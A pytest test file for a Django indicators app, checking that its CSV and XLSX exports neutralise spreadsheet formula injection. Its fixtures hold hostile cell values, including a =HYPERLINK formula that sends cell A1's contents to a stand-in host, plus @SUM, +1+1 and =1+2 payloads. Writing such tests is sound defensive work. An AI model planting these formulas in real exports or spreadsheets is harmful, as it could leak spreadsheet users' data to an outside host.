"""#16.5: every CSV and XLSX the application writes neutralises cells a spreadsheet would run (OWASP:
leading =, +, -, @, tab, carriage return), numbers stay numbers, and XLSX text is written as text."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from clusters.models import Area
from goals.models import Measure
from indicators.models import Indicator, Observation

pytestmark = pytest.mark.django_db

HOSTILE = {
    "education": '=HYPERLINK("http://example.invalid/?"&A1;"Klik")',
    "age_group": "@SUM(A1)",
    "period_label": "+1+1",
}


@pytest.fixture
def hostile_value():
    return Observation.objects.create(
        indicator=Indicator.objects.get(code="dagligrygning"),
        area=Area.objects.get(code="461"),
        year=2021,
        value=-1.5,
        **HOSTILE,
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def _assert_neutralised(rows):
    cells = [cell for row in rows for cell in row]
    for text in HOSTILE.values():
        assert text not in cells, text
        assert "'" + text in cells, text
    assert "-1,5" in cells  # a number stays a number
    assert not any(cell[:1] in {"=", "+", "@", "\t", "\r"} for cell in cells)


def test_the_public_indicator_csv_neutralises_formulas(client, hostile_value):
    response = client.get("/indikatorer/dagligrygning/data.csv")
    _assert_neutralised(_rows(b"".join(response.streaming_content).decode("utf-8")))


def test_the_export_command_neutralises_formulas(hostile_value, tmp_path):
    path = tmp_path / "export.csv"
    call_command("export_indicators", indicator=["dagligrygning"], output=str(path), stderr=io.StringIO())
    _assert_neutralised(_rows(path.read_text(encoding="utf-8-sig")))


def _hostile_measure():
    measure = Measure.objects.filter(indicator__code="dagligrygning").order_by("pk").first()
    measure.follow_up_text = '=HYPERLINK("http://example.invalid";"Se mere")'
    measure.save()
    return measure


def test_the_measure_xlsx_writes_text_as_text(client):
    measure = _hostile_measure()
    response = client.get(f"/opfoelgning/{measure.pk}/data.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    (follow_up,) = [c for c in cells if c.value == measure.follow_up_text]
    assert follow_up.data_type == "s"
    numbers = [c for c in cells if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)  # the evaluation year, the values


def test_the_measure_csv_neutralises_formulas(client):
    measure = Measure.objects.get(
        objective__vision__agreement__slug="syddanmark-2019-2023", indicator__code="dagligrygning"
    )
    odense = Area.objects.get(code="461")
    odense.name = "=1+2"
    odense.save()
    for year, value in [(2017, 18.5), (2021, -1.5)]:
        Observation.objects.create(indicator=measure.indicator, area=odense, year=year, value=value)
    response = client.get(f"/opfoelgning/{measure.pk}/data.csv?omraade=461&aar=2023")
    cells = [cell for row in _rows(response.content.decode("utf-8")) for cell in row]
    assert "=1+2" not in cells and "'=1+2" in cells
    assert "-1,5" in cells
